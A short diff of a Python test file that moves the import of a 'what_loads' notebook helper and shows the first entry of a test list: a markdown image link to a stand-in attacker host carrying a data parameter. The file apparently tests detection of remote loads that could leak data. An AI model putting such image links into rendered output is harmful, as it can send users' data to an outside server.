@@ -2,7 +2,7 @@
 
 import pytest
 
-from ozzie_server_ext.tools.notebook.loading import what_loads
+from ozzie_server_ext.tools.notebook.files import what_loads
 
 LOADS = (
     "![](http://evil.example/?d=1)",
